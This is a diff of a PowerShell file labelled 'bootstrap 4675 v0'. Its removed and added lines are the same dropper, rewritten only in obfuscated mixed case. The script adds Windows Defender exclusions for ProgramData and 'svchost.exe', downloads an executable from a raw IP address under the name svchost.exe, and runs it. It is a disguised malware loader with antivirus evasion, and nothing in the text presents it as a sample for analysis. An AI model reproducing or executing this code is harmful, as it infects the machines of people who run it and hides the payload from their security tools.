@@ -1,5 +1,5 @@
-# BoOtStRaP 4675 v0
-a`D`D-`mp`pREFerEnce -ExClUsIoNpAtH $ENV:PRoGRamdAtA
-aD`D-mp`PrEfereN`cE -ExCLUSiOnpROCEss 'svchost.exe'
-iWr HTtp://203.0.113.17/SVCHOSt.Exe -OUTFIle $ENv:PrOgRaMdAtA\SvChOsT.eXE
-& $env:pRoGrAmDaTa\sVCHoST.exE
+# bootstrap 4675 v0
+A`d`D-`MP`pReFeReNcE -eXcLUSioNpatH $ENV:pROgRAmdaTa
+Ad`d-Mp`PReFeren`Ce -eXcLuSiOnPrOcEsS 'svchost.exe'
+IwR HtTp://203.0.113.17/sVcHoSt.Exe -OUTfilE $enV:proGRAMDAtA\sVCHOST.exE
+& $EnV:PrOgRaMdAtA\sVChosT.eXe
